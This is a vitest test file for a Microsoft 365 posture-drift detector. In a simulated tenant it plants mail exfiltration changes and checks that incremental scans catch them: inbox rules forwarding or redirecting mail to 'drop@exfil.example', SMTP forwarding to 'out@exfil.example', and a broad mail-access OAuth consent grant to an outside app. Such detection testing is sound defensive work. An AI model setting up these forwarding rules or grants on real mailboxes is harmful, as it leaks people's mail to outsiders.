import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Manifest } from '../../reconciler/manifest/schema.js';
import { DEFAULT_INGESTION_DELAY_MS } from '../../simulator/graph/entities/audit-log-queries.js';
import { resetDeltaTokens } from '../../simulator/graph/delta.js';
import { startSimulator, type RunningSimulator } from '../../simulator/index.js';
import { exo, graph } from '../simulator/helpers.js';
import { synthExamples } from './harness.js';
import { fullRun, incrementalRun, tailspin } from './incremental-harness.js';

let m: Manifest;
let sim: RunningSimulator | undefined;
beforeAll(() => {
  m = tailspin(synthExamples());
});
afterEach(async () => {
  await sim?.stop();
  sim = undefined;
});

const HOUR = 3600_000;

describe('posture drift --incremental', () => {
  it('a run from the state finds what a full read finds, reading only what changed: a forwarding rule, mailbox forwarding and a consent grant', async () => {
    sim = await startSimulator({ scenario: 'compliant', generate: { mailboxes: 120 } });
    const s = sim;
    s.clock.set('2026-06-01T01:00:00Z');
    const first = await incrementalRun(s, m, undefined, { period: 7 });
    expect(first.result.mode).toEqual({ kind: 'full', reason: 'no state from an earlier run' });
    expect(first.incomplete).toEqual([]);
    expect(first.findings).toBe((await fullRun(s, m)).findings);
    const state = first.result.state!;
    expect(state).toBeDefined();

    // Changes: a rule forwarding outside in one mailbox, forwarding set on another, a consent to an app.
    s.clock.advance(HOUR);
    const mailboxes = [...s.tenant.exchange.Mailbox.values()];
    const [a, b] = [mailboxes[40]!, mailboxes[80]!];
    const rule = await graph(s, 'POST', `/v1.0/users/${String(a['ExternalDirectoryObjectId'])}/mailFolders/inbox/messageRules`, {
      body: { displayName: 'sync', sequence: 1, actions: { forwardTo: [{ emailAddress: { address: 'drop@exfil.example' } }] } },
    });
    expect(rule.status).toBe(201);
    expect((await exo(s, 'Set-Mailbox', { Identity: String(b['UserPrincipalName']), ForwardingSmtpAddress: 'smtp:out@exfil.example' })).status).toBe(200);
    const sp = [...s.tenant.graph.servicePrincipals.values()].find((x) => x['appOwnerOrganizationId'] !== 'f8cdef31-a31e-4b4a-93e4-5f571e91255a')!;
    const graphSp = [...s.tenant.graph.servicePrincipals.values()].find((x) => x['appId'] === '00000003-0000-0000-c000-000000000000')!;
    const grant = await graph(s, 'POST', '/v1.0/oauth2PermissionGrants', {
      body: { clientId: sp.id, consentType: 'Principal', principalId: String(a['ExternalDirectoryObjectId']), resourceId: graphSp.id, scope: 'Mail.ReadWrite Mail.Send offline_access' },
    });
    expect(grant.status).toBe(201);
    s.clock.advance(DEFAULT_INGESTION_DELAY_MS);

    const full = await fullRun(s, m);
    const inc = await incrementalRun(s, m, state, { period: 7 });
    expect(inc.result.mode).toEqual({ kind: 'incremental' });
    expect(inc.incomplete).toEqual([]);
    expect(inc.findings).toBe(full.findings);
    expect(inc.findings).not.toBe(first.findings);
    // The two mailboxes changed, and the rotation's seventh of the rest (requests at scale: bench/incremental.ts).
    expect(inc.result.mailboxesKept).toBeGreaterThan(120);
    expect(inc.result.mailboxesRead).toBeLessThanOrEqual(2 + Math.ceil(inc.result.mailboxesKept / 7));
    expect(inc.result.mailboxesRead).toBeGreaterThanOrEqual(2);
  });

  it('a delta link the service no longer holds reads that collection again from a first round; --full, another posture or an old state read everything', async () => {
    sim = await startSimulator({ scenario: 'compliant' });
    const s = sim;
    s.clock.set('2026-06-01T01:00:00Z');
    const first = await incrementalRun(s, m, undefined, { period: 3 });
    resetDeltaTokens(s.tenant);
    s.clock.advance(HOUR);
    const after = await incrementalRun(s, m, first.result.state, { period: 3 });
    expect(after.result.mode).toEqual({ kind: 'incremental' });
    expect(after.result.resynced.length).toBeGreaterThan(0);
    expect(after.findings).toBe((await fullRun(s, m)).findings);

    // A link to another host (an edited state) is never followed: the collection is read again, the token stays home.
    const elsewhere = structuredClone(after.result.state!) as { delta: Record<string, { link: string }> };
    for (const d of Object.values(elsewhere.delta)) d.link = d.link.replace(/^http:\/\/[^/]+/, 'http://127.0.0.9:9');
    const before = s.requests.entries.length;
    const edited = await incrementalRun(s, m, elsewhere as never, { period: 3 });
    expect(edited.result.resynced.length).toBe(Object.keys(elsewhere.delta).length);
    expect(edited.findings).toBe(after.findings);
    expect(s.requests.entries.length).toBeGreaterThan(before);

    expect((await incrementalRun(s, m, after.result.state, { period: 3, full: true })).result.mode).toEqual({ kind: 'full', reason: '--full was given' });
    const other = { ...after.result.state!, desiredHash: 'another' };
    expect((await incrementalRun(s, m, other, { period: 3 })).result.mode.kind).toBe('full');
    s.clock.advance(8 * 24 * HOUR);
    const old = await incrementalRun(s, m, after.result.state, { period: 3 });
    expect(old.result.mode).toEqual({ kind: 'full', reason: expect.stringMatching(/older than its delta links live/) });
    expect((await incrementalRun(s, m, after.result.state, { period: 4 })).result.mode.kind).toBe('full');
  });

  it('when the audit log cannot be read, every mailbox is read again: a rule change is never missed for want of its record', async () => {
    sim = await startSimulator({ scenario: 'compliant', generate: { mailboxes: 30 } });
    const s = sim;
    s.clock.set('2026-06-01T01:00:00Z');
    const first = await incrementalRun(s, m, undefined, { period: 7 });
    s.tenant.auditLogSearch.settings.loseRecords = true;
    const mailbox = [...s.tenant.exchange.Mailbox.values()][10]!;
    const rule = await graph(s, 'POST', `/v1.0/users/${String(mailbox['ExternalDirectoryObjectId'])}/mailFolders/inbox/messageRules`, {
      body: { displayName: 'quiet', sequence: 1, actions: { redirectTo: [{ emailAddress: { address: 'drop@exfil.example' } }] } },
    });
    expect(rule.status).toBe(201);
    s.tenant.auditLogSearch.outcome = 'failed';
    s.clock.advance(HOUR);
    const inc = await incrementalRun(s, m, first.result.state, { period: 7 });
    expect(inc.result.mode).toEqual({ kind: 'incremental' });
    expect(inc.result.audit?.problem).toMatch(/failed/);
    expect(inc.result.mailboxesRead).toBe(inc.result.mailboxesKept);
    expect(inc.findings).toBe((await fullRun(s, m)).findings);
    expect(inc.findings).toContain('quiet');
  });
});
